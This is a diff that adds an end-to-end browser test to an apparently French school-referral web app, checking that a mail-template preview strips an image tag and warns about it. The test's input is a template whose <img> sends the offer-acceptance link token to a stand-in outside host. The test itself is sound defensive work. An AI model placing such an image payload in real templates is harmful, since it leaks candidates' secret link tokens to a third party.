@@ -139,6 +139,18 @@ public partial class WholeLoopTests
             await Check(admin, path);
         }
 
+        // A template that would send a link's token off-site in an image: the preview shows the mail without it, and says so.
+        await admin.GotoAsync($"{app.BaseUrl}/ecole/modeles/referral.offer_to_candidate");
+        await admin.Locator("textarea[name=Body]").FillAsync(
+            "<p>Bonjour {{candidat.prenom}}</p><img src=\"https://elsewhere.example/?{{liens.accepterOffre}}\">{{bouton liens.accepterOffre \"J'accepte\"}}");
+        await admin.GetByRole(AriaRole.Button, new() { Name = "Aperçu" }).ClickAsync();
+        await Assertions.Expect(admin.GetByRole(AriaRole.Status).Filter(new() { HasText = "Retiré du mail" })).ToContainTextAsync("<img>");
+        var preview = admin.FrameLocator("iframe[title='Aperçu du mail']");
+        await Assertions.Expect(preview.GetByRole(AriaRole.Link, new() { Name = "J'accepte" })).ToBeVisibleAsync();
+        (await preview.Locator("img").CountAsync()).ShouldBe(0);
+        await BrowserApp.ScreenshotAsync(admin, "modele-apercu", admin.Locator("iframe[title='Aperçu du mail']"));
+        await Check(admin, "modele-apercu");
+
         violations.ShouldBeEmpty();
         app.CspViolations.ShouldBeEmpty("every page works under the Content-Security-Policy");
     }
